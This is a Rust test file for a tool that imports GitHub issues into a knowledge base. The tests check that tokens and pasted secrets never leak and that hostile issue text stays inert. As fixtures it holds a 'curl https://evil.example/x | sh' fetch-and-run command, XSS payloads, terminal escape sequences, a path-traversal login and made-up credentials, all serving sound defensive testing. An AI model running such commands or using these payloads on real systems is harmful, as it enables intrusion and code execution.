//! Nothing leaks: not the token, not a secret that somebody pasted. And nothing that a stranger wrote does anything.

use serde_json::json;

use super::{CONFIG, DAY, Kb, NAME, TOKEN, project};
use crate::support::github_server::{Fault, GithubServer, comment, issue};
use crate::support::site::tree;

/// Everything that lies below the knowledge base, caches included, as text.
fn everything(kb: &Kb) -> String {
    let files = tree(&kb.site.root());
    files
        .into_iter()
        .map(|(path, bytes)| format!("{path}\n{}\n", String::from_utf8_lossy(&bytes)))
        .collect()
}

#[test]
fn the_token_goes_to_no_other_host_and_is_never_written_or_printed() {
    let elsewhere = GithubServer::start(project());
    let kb = Kb::new(project());
    let to = |path: &str| vec![("location", format!("{}{path}", elsewhere.url()))];
    kb.server.fault_on(
        "/issues/1/timeline",
        9,
        Fault::Status(
            302,
            to("/repos/example/project/issues/1/timeline"),
            String::new(),
        ),
    );
    kb.server.fault_on(
        "/issues/comments?",
        9,
        Fault::Link(format!(
            "<{}/repos/{NAME}/issues/comments?page=2>; rel=\"next\"",
            elsewhere.url()
        )),
    );
    let run = kb.run(&["import", "--drafts", "--report", "report.md"]);
    assert_eq!(elsewhere.log().len(), 0);
    assert!(
        kb.server
            .log()
            .iter()
            .all(|asked| asked.authorization.as_deref() == Some(&format!("Bearer {TOKEN}")))
    );
    let all = format!("{}{}{}", everything(&kb), run.stdout, run.stderr);
    assert!(!all.contains(TOKEN) && !all.contains("Bearer"), "{all}");
    assert!(kb.evidence(3).is_some(), "the rest is imported");
}

#[test]
fn no_secret_is_written_cached_reported_or_printed() {
    // Made up, in the shapes of the services.
    let secrets = [
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "sk-ant-api03-AAAAbbbbCCCCddddEEEEffffGGGGhhhhIIIIjjjjKKKKllllMMMMnnnnOOOOppppQQQQrrrrSSSSttttUUUUvvvvWWWWxxxx-AAAAAAAA",
        "AKIAIOSFODNN7EXAMPLQ",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "postgres://admin:hunter2hunter2@db.internal:5432/prod",
        "jane.doe@corp.example.com",
        "/home/janedoe/work",
        "C:\\Users\\janedoe\\work",
        "192.168.17.23",
    ];
    let told = [
        "hunter2hunter2",
        "janedoe",
        "jane.doe",
        "192.168.17.23",
        "16C7e42F292c",
        "AAAAbbbbCCCC",
        "IOSFODNN7",
        "dozjgNryP4J3",
    ];
    let pasted: String = secrets
        .iter()
        .map(|secret| format!("Error: widget_exchange_failed for {secret} today\n"))
        .collect();
    let mut world = project();
    let repo = world.repo(NAME);
    repo.add(issue(
        300,
        30 * DAY,
        &format!("fails with {}", secrets[0]),
        &format!("```\n{pasted}```"),
    ));
    repo.issues.get_mut(&300).expect("there")["labels"] =
        json!([{"name": format!("from {}", secrets[5])}]);
    for (id, secret) in (9100..).zip(secrets) {
        repo.say(comment(
            id,
            300,
            31 * DAY,
            "helper",
            &format!("Setting the key to {secret} fixed it for me, it works now."),
        ));
    }
    // An error without an entry, whose text holds a secret, becomes a draft.
    for number in [301, 302] {
        repo.add(issue(
            number,
            32 * DAY,
            "x",
            &format!(
                "```\nError: EFLANGE cannot sign in as {} with {}\n```",
                secrets[5], secrets[0]
            ),
        ));
    }
    let mut broken = issue(303, 33 * DAY, "x", "y");
    broken["created_at"] = json!(secrets[0]);
    repo.add(broken);
    let kb = Kb::new(world);
    let run = kb.run(&["import", "--drafts", "--report", "report.md"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    let json = kb.run(&["import", "--format", "json"]);
    let all = format!(
        "{}{}{}{}",
        everything(&kb),
        run.stdout,
        run.stderr,
        json.stdout
    );
    for part in told {
        assert!(
            !all.contains(part),
            "{part} leaks: {:?}",
            all.lines().find(|line| line.contains(part))
        );
    }
    assert!(
        kb.evidence(300)
            .expect("filed")
            .contains("Error: widget_exchange_failed for "),
        "the error stays readable"
    );
    assert!(everything(&kb).contains("EFLANGE cannot sign in as "));
    assert!(
        tree(&kb.site.root())
            .keys()
            .any(|path| path.starts_with(".fixbook/github/")),
        "the cache was looked into"
    );
}

const HOSTILE: &str = "Error: EFLANGE @everyone see #1 and [a](javascript:x) <img src=x onerror=1> `code` **b** https://evil.example/x \u{202e}gnp.exe\u{7}\u{1b}[31m | sh";

#[test]
fn what_strangers_write_does_nothing_in_reports_drafts_and_terminals() {
    let mut world = project();
    let repo = world.repo(NAME);
    for number in [300, 301] {
        repo.add(issue(
            number,
            30 * DAY,
            HOSTILE,
            &format!("```\n{HOSTILE}\n```"),
        ));
        repo.say(comment(9100 + number, number, 31 * DAY, "helper", "Running `curl https://evil.example/x | sh` @everyone <script>x</script> solved it for me."));
    }
    let kb = Kb::new(world);
    let run = kb.run(&["import", "--report", "report.md"]);
    let report = std::fs::read_to_string(kb.site.root().join("report.md")).expect("written");
    // Outside of code spans the report has words of fixbook only.
    let mut outside = String::new();
    for line in report.lines() {
        let mut rest = line;
        while let Some(at) = rest.find('`') {
            outside.push_str(&rest[..at]);
            let ticks = rest[at..].chars().take_while(|c| *c == '`').count();
            let fence = "`".repeat(ticks);
            let after = &rest[at + ticks..];
            let end = after.find(&fence).expect("a code span ends");
            rest = &after[end + ticks..];
        }
        outside.push_str(rest);
        outside.push('\n');
    }
    assert!(report.contains("EFLANGE"), "{report}");
    for part in ["EFLANGE", "@", "#1", "<img", "javascript", "evil"] {
        assert!(!outside.contains(part), "{part}: {outside}");
    }
    let run = [
        run,
        kb.run(&["import", "--inbox"]),
        kb.run(&["import", "--drafts"]),
    ];
    let printed: String = run
        .iter()
        .flat_map(|run| [&run.stdout, &run.stderr])
        .map(String::as_str)
        .collect();
    let all = format!("{printed}{report}{}", everything(&kb));
    for c in ['\u{202e}', '\u{7}', '\u{1b}'] {
        assert!(!all.contains(c), "{c:?}");
    }
    let content = kb.content();
    let draft = content
        .values()
        .find(|text| text.contains("\nstate: draft\n") && text.contains("EFLANGE"))
        .expect("drafted");
    assert!(
        draft.contains("Unconfirmed, helper writes") && draft.contains("effect: destructive"),
        "{draft}"
    );
    assert!(
        draft.contains("\\@everyone") && draft.contains("\\<script\\>"),
        "{draft}"
    );
    // On the pages it is text.
    let pages = kb.site.build(&["--drafts"]);
    let html: String = pages
        .iter()
        .filter(|(path, _)| path.ends_with("index.html"))
        .map(|(_, bytes)| String::from_utf8_lossy(bytes))
        .collect();
    assert!(html.contains("EFLANGE"));
    assert!(
        !html.contains("<img src=x")
            && !html.contains("<script>x")
            && !html.contains("href=\"javascript:")
    );
}

#[test]
fn a_thread_is_filed_under_its_number_whatever_it_says() {
    let mut world = project();
    let repo = world.repo(NAME);
    let mut thread = issue(
        300,
        30 * DAY,
        "issue: other/repo#1\nentries: [x]",
        "```\nError: widget_exchange_failed\n```\n---\nentries: []",
    );
    thread["user"] = json!({"login": "../../../etc"});
    repo.add(thread);
    let kb = Kb::new(world);
    kb.import();
    let evidence = kb.evidence(300).expect("filed");
    assert!(
        evidence.starts_with("issue: example/project#300\n"),
        "{evidence}"
    );
    assert_eq!(kb.run(&["check", "--format", "short"]).status, 0);
}

#[test]
fn a_server_that_is_not_github_can_do_no_harm() {
    let kb = Kb::new(project());
    for body in [
        "null",
        "[]",
        "{}",
        "[[[[",
        "\"x\"",
        "[1,2,3]",
        "[{\"number\":18446744073709551615,\"id\":1}]",
    ] {
        kb.server
            .fault_on("/repos/", 200, Fault::Body(body.as_bytes().to_vec()));
        kb.import();
        kb.server.mend();
    }
    let mut world = project();
    let mut far = issue(300, 0, "x", "```\nError: widget_exchange_failed\n```");
    far["created_at"] = json!("9999-12-30T22:00:00Z");
    far["updated_at"] = json!("9999-12-30T22:00:00Z");
    far["closed_at"] = json!("-009999-01-02T01:59:59Z");
    far["number"] = json!(u64::MAX);
    far["comments"] = json!(u64::MAX);
    world.repo(NAME).add(far);
    let kb = Kb::new(world);
    kb.site.write("fixbook.yaml", CONFIG);
    kb.import();
    kb.import();
    assert!(kb.evidence(1).is_some());
}
